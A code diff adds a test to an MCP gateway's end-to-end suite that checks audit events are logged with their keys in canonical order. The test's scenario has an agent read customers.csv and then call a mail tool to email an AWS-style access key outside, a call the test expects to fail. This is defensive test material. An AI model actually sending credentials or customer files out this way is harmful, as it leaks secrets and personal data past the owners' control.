@@ -52,6 +52,37 @@ describe('MCP gateway, end to end with the official clients', { timeout: 120_000
     assert.ok(result, 'the result is recorded');
   });
 
+  it('builds the events of a call with their members in canonical order, so the log encodes them without copying', async () => {
+    const a = await h.newAgent('ordered', { servers: ['files', 'web', 'mailer'] });
+    const seen: Array<{ action: string; body: unknown }> = [];
+    const stop = h.w.warden.services.audit.subscribe((e) => {
+      if (e.agentId === a.id && e.action.startsWith('mcp.')) seen.push({ action: e.action, body: e });
+    });
+    try {
+      const session = await h.legacy(a.key);
+      await session.client.callTool({ name: 'web__fetch_page', arguments: { url: 'https://blog.example.net/ai-tips' } });
+      await session.client.callTool({ name: 'files__read_file', arguments: { path: 'customers.csv' } });
+      await failure(() => session.client.callTool({ name: 'mailer__send_email', arguments: { to: 'x@example.com', subject: 'keys', body: `aws ${'AKIA' + 'QX7RZ2M4LBNWD6YT'} secret` } }));
+      await h.events({ agentId: a.id });
+    } finally {
+      stop();
+    }
+    const unsorted: string[] = [];
+    const walk = (v: unknown, at: string): void => {
+      if (Array.isArray(v)) return v.forEach((x, i) => walk(x, `${at}[${i}]`));
+      if (v === null || typeof v !== 'object') return;
+      const keys = Object.keys(v);
+      if (keys.some((k, i) => i > 0 && keys[i - 1]! > k)) unsorted.push(`${at}: ${keys.join(',')}`);
+      for (const k of keys) walk((v as Record<string, unknown>)[k], `${at}.${k}`);
+    };
+    for (const e of seen) walk(e.body, e.action);
+    // Left out: the agent's arguments (its own data, as sent), and the policy input's taint entries, rebuilt by completeInput (policy/input.ts).
+    unsorted.splice(0, unsorted.length, ...unsorted.filter((u) => !/\.session\.taint\[\d+\]:|\.request\.arguments[.:[]/.test(u)));
+    assert.ok(seen.some((e) => e.action === 'mcp.tools.result' && JSON.stringify(e.body).includes('"findings":[{')), 'a result with findings was seen');
+    assert.ok(seen.some((e) => e.action === 'mcp.tools.call' && JSON.stringify(e.body).includes('"findings":[{')), 'a call with findings was seen');
+    assert.deepEqual(unsorted, []);
+  });
+
   it('denies a call by policy (a secret in the arguments) with the rule named', async () => {
     const a = await h.newAgent('leaker', { servers: ['mailer'] });
     const legacy = await h.legacy(a.key);
